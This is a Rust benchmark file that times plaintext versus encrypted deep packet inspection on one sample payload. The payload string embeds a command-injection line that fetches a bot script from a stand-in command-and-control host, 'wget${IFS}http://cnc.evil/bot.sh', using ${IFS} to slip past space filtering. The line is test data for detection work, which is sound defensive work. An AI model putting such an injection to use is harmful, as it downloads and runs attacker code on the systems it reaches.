//! E-M4 bench — plaintext vs encrypted DPI inspection cost per payload.
//! The rule-set × payload fast-path sweep lives in `exp_dpi`.

use std::sync::Arc;
use xlf_bench::harness::micro_bench;
use xlf_core::dpi::{default_rules, DpiSession, EncryptedDpi, PlaintextDpi};
use xlf_lwcrypto::searchable::Tokenizer;
use xlf_simnet::SimTime;

fn main() {
    let payload = b"POST /telemetry temperature=71.2 humidity=40 wget${IFS}http://cnc.evil/bot.sh trailer bytes";
    let bytes = Some(payload.len());

    let plain = PlaintextDpi::new(default_rules());
    micro_bench("dpi_inspection/plaintext", bytes, || plain.inspect(payload));

    let endpoint = Tokenizer::new(b"bench session").expect("tokenizer");
    let mut enc = EncryptedDpi::new(Arc::new(DpiSession::bind(
        &default_rules(),
        endpoint.clone(),
    )));
    let mut firsts = Vec::new();
    micro_bench("dpi_inspection/encrypted_tokenize_and_match", bytes, || {
        let tokens = endpoint.tokenize(payload);
        enc.inspect("dev", &tokens, &mut firsts, SimTime::ZERO)
    });
    let tokens = endpoint.tokenize(payload);
    micro_bench("dpi_inspection/encrypted_match_only", bytes, || {
        enc.inspect("dev", &tokens, &mut firsts, SimTime::ZERO)
    });
}
